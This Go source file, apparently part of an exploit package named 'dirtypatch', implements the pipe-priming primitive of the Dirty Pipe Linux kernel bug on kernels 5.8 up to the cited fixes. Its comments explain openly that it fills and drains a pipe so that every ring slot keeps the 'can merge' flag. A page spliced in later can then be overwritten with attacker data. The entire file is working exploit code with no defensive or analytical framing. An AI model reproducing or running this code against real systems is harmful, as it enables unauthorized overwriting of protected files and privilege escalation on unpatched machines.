//go:build linux

package dirtypatch

import (
	"github.com/pkg/errors"
	"golang.org/x/sys/unix"
)

const primeChunk = 4096

// PipeChannel is a pipe whose ring slots have all been primed with the
// "can merge" flag. A page later spliced into the pipe lands in a slot
// whose flag the kernel never resets, so a following write appends into
// that page instead of a fresh buffer. This only holds on kernels with
// the uninitialized pipe_buffer.flags bug (5.8 up to the fixes in
// 5.16.11, 5.15.25 and 5.10.102); nothing here can verify it.
type PipeChannel struct {
	r, w     int
	capacity int
}

// NewPipeChannel creates and primes a pipe. A failure here is an
// environment error the caller cannot recover from.
func NewPipeChannel() (*PipeChannel, error) {
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_CLOEXEC); err != nil {
		return nil, errors.Wrap(err, "pipe2")
	}
	ch := &PipeChannel{r: p[0], w: p[1]}

	capacity, err := unix.FcntlInt(uintptr(ch.w), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		ch.Close()
		return nil, errors.Wrap(err, "fcntl F_GETPIPE_SZ")
	}
	ch.capacity = capacity

	if err = ch.Prepare(); err != nil {
		ch.Close()
		return nil, err
	}
	return ch, nil
}

// Prepare fills the pipe to capacity and drains it again. Each slot the
// fill touches gets the merge flag, and draining frees the slots without
// clearing it. Calling Prepare again repeats the cycle and leaves the
// channel in the same empty, primed state.
func (c *PipeChannel) Prepare() error {
	buf := make([]byte, primeChunk)
	for r := c.capacity; r > 0; {
		n := min(r, len(buf))
		written, err := unix.Write(c.w, buf[:n])
		if err != nil {
			return errors.Wrap(err, "prime pipe: write")
		}
		r -= written
	}
	return c.drain(c.capacity)
}

func (c *PipeChannel) drain(count int) error {
	buf := make([]byte, primeChunk)
	for r := count; r > 0; {
		n := min(r, len(buf))
		got, err := unix.Read(c.r, buf[:n])
		if err != nil {
			return errors.Wrap(err, "drain pipe: read")
		}
		if got == 0 {
			return errors.Errorf("drain pipe: end of pipe with %d bytes outstanding", r)
		}
		r -= got
	}
	return nil
}

// Capacity is the pipe buffer size reported by the kernel.
func (c *PipeChannel) Capacity() int {
	return c.capacity
}

// Buffered returns the number of unread bytes in the pipe.
func (c *PipeChannel) Buffered() (int, error) {
	n, err := unix.IoctlGetInt(c.r, unix.TIOCINQ)
	return n, errors.Wrap(err, "ioctl TIOCINQ")
}

func (c *PipeChannel) Close() error {
	errR := unix.Close(c.r)
	errW := unix.Close(c.w)
	if errR != nil {
		return errors.Wrap(errR, "close pipe read end")
	}
	return errors.Wrap(errW, "close pipe write end")
}
